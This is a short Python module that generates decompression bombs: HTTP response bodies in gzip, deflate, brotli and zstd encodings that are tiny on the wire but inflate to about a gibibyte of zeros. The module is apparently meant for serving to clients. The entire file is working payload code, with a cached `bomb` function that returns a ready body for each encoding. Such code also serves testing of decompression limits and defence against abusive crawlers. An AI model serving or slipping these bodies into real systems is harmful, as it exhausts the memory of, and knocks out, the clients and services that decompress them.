"""Answers of a few bytes that inflate to many."""

import zlib
from functools import cache

import brotli
import zstandard

GIBIBYTE = 1 << 30
_BLOCK = bytes(1 << 20)


def _deflated(blocks: int, wbits: int) -> bytes:
    # After a full flush every block is compressed to the same bytes, so one is enough.
    compressor = zlib.compressobj(9, zlib.DEFLATED, wbits)
    head = compressor.compress(_BLOCK) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(_BLOCK) + compressor.flush(zlib.Z_FULL_FLUSH)
    return head + block * (blocks - 1)


def _brotli(blocks: int) -> bytes:
    compressor = brotli.Compressor(quality=5, lgwin=24)
    return b"".join(compressor.process(_BLOCK) for _ in range(blocks)) + compressor.finish()


def _zstd(blocks: int) -> bytes:
    compressor = zstandard.ZstdCompressor(level=1).compressobj()
    return b"".join(compressor.compress(_BLOCK) for _ in range(blocks)) + compressor.flush()


_MAKERS = {
    "gzip": lambda blocks: _deflated(blocks, 31),
    "deflate": lambda blocks: _deflated(blocks, 15),
    "br": _brotli,
    "zstd": _zstd,
}
ENCODINGS = tuple(_MAKERS)


@cache
def bomb(encoding: str, size: int = GIBIBYTE) -> bytes:
    """A body that inflates to so many zeros, in whole mebibytes."""
    return _MAKERS[encoding](size // len(_BLOCK))
